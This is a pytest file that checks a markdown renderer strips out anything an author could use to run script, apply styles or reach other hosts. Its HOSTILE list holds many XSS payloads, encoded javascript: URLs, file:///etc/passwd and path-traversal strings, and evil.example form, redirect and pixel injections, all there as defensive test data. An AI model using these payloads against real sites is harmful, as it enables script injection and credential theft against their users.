"""Authors write text, never code."""

from __future__ import annotations

import html.parser
import time

import pytest

from prm.infra.markdown import MAX_TEXT, ShownImage, render_markdown

IMAGES = {"0190-a": ShownImage("/acme/training/images/0190-a", "A lamp", 640, 480)}

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<math><mtext></mtext><mglyph><style><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<form action=https://evil.example><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<object data=data:text/html,x></object><embed src=x>",
    "<base href=https://evil.example/>",
    "<p style='position:fixed;inset:0'>x</p>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](https://ok.example 'onmouseover=alert(1)')",
    "[x](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<https://ok.example/?a='onclick='alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x\" onerror=\"alert(1)](image:0190-a)",
    "![x](image:0190-a\" onerror=\"alert(1))",
    "![x](image:0190-a 'x\" onerror=\"alert(1)')",
    "![x](image:../../../etc/passwd)",
    "```\"><script>alert(1)</script>\nx\n```",
    "``` html onclick=alert(1)\nx\n```",
    "`<script>alert(1)</script>`",
    "# <img src=x onerror=alert(1)>",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| c | <script>1</script> |",
    "|a|\n|:-:|\n|x|",
    "- <details ontoggle=alert(1) open>",
    "> <input autofocus onfocus=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=javascript:alert(1)?>",
    "\u202e<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<ScRiPt/x>alert(1)</sCrIpT >",
    "<a id=x href=y name=z class='btn btn-danger'>x</a>",
    "<template><script>alert(1)</script></template>",
    "<video src=x onerror=alert(1)><audio src=x onerror=alert(1)>",
]  # fmt: skip

TAGS = {"p", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "a", "em", "strong", "s", "code", "pre",
        "blockquote", "hr", "br", "img", "table", "thead", "tbody", "tr", "th", "td"}  # fmt: skip
ATTRIBUTES = {"href", "title", "rel", "src", "alt", "width", "height", "loading", "start"}


class Elements(html.parser.HTMLParser):
    """Every element of a piece of HTML, as a browser would find it."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def elements(text: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = Elements()
    parser.feed(str(render_markdown(text, IMAGES)))
    parser.close()
    return parser.found


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_can_script_style_or_reach_elsewhere(text: str) -> None:
    for tag, attributes in elements(text):
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES, attributes
        if tag == "img":
            assert attributes["src"] == "/acme/training/images/0190-a"
        if tag == "a" and "href" in attributes:
            assert str(attributes["href"]).startswith(("https://ok.example", "y")), attributes


def test_headings_start_below_the_pages_own() -> None:
    shown = str(render_markdown("# One\n\n## Two\n\n###### Six"))
    assert "<h1" not in shown
    assert "<h2>One</h2>" in shown and "<h3>Two</h3>" in shown and "<h6>Six</h6>" in shown


def test_links_lead_away_without_telling_or_opening_a_door() -> None:
    (_p, _none), (tag, attributes) = elements("[notes](https://ok.example/notes)")
    assert tag == "a"
    assert set(str(attributes["rel"]).split()) >= {"noopener", "noreferrer"}


def test_an_image_of_the_course_is_shown_with_its_size_and_words() -> None:
    assert elements("![](image:0190-a)")[1] == (
        "img",
        {
            "src": "/acme/training/images/0190-a",
            "alt": "A lamp",
            "width": "640",
            "height": "480",
            "loading": "lazy",
        },
    )
    assert elements("![Own words](image:0190-a)")[1][1]["alt"] == "Own words"


def test_an_unknown_image_leaves_its_words() -> None:
    assert str(render_markdown("![A lamp](image:none)")).strip() == "<p>A lamp</p>"


def test_the_usual_markdown_works() -> None:
    shown = str(
        render_markdown("**b** *i* ~~s~~ `c`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n3. x\n4. y\n\n> q\n\n---")
    )
    for piece in ("<strong>b</strong>", "<em>i</em>", "<s>s</s>", "<code>c</code>", "<td>2</td>",
                  '<ol start="3">', "<blockquote>", "<hr>"):  # fmt: skip
        assert piece in shown


@pytest.mark.parametrize(
    "piece", ["[", "*a ", "_", "> ", "`", "![", "](", "<", "&", "|a", "1. ", "\\", "**[", "~~", "[a]("]
)
def test_a_text_made_to_be_slow_is_not(piece: str) -> None:
    began = time.process_time()
    render_markdown((piece * MAX_TEXT)[:MAX_TEXT])
    assert time.process_time() - began < 10  # under one second, idle; minutes, were it quadratic
